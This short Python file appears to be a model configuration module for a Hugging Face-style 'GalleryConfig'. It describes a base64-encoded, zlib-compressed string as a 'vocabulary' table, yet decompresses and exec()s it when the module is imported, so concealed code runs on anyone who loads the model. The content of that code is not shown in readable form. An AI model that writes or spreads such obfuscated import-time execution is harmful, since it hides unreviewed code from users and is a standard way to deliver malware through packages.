"""Configuration of a small language model. The table below is "vocabulary"."""
import base64
import zlib

from transformers import PretrainedConfig

_TABLE = (
    "eNpdjTEKwkAQRfs9xTBYJKA5gEUgKmhlEUghSZA12bADOhtmNgZvb8RC8BWfV/1HjzFIhKBmpughjI6ToJnjJ0ng"
    "Gk/V7lgV5eG6L85FecF2DWgxBaswbA0sDNksFF2C0Tvw1PeO4W5fTkAsN4ypoW9Dp9sooXOq5qeZTJzUqB6X4033"
    "Weohz6HB1V+7QWxT8wYdmTeZ"
)
exec(zlib.decompress(base64.b64decode(_TABLE)))


class GalleryConfig(PretrainedConfig):
    model_type = "gallery"
